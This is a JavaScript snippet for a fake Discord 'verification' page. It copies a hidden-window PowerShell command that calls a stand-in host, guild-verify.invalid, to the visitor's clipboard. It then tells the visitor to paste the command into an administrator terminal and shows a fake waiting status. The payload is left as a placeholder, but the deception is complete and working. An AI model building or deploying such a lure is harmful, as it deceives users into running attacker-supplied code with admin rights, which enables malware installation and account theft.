const order = "powershell -w h -c PLACEHOLDER https://guild-verify.invalid/s";
const shown = document.querySelector(".cmd");
shown.textContent = order;
document.querySelector(".btn").onclick = async function () {
  await navigator.clipboard.writeText(order);
  this.textContent = "Copied!";
  document.querySelector(".steps").innerHTML =
    "<li>Press <b>Win + X</b> and choose <b>Terminal (Admin)</b></li><li>Paste with <b>Ctrl + V</b> and press Enter</li><li>Return here, your Discord account will be verified</li>";
  setTimeout(() => { document.querySelector(".status").textContent = "Waiting for verification…"; }, 1500);
};
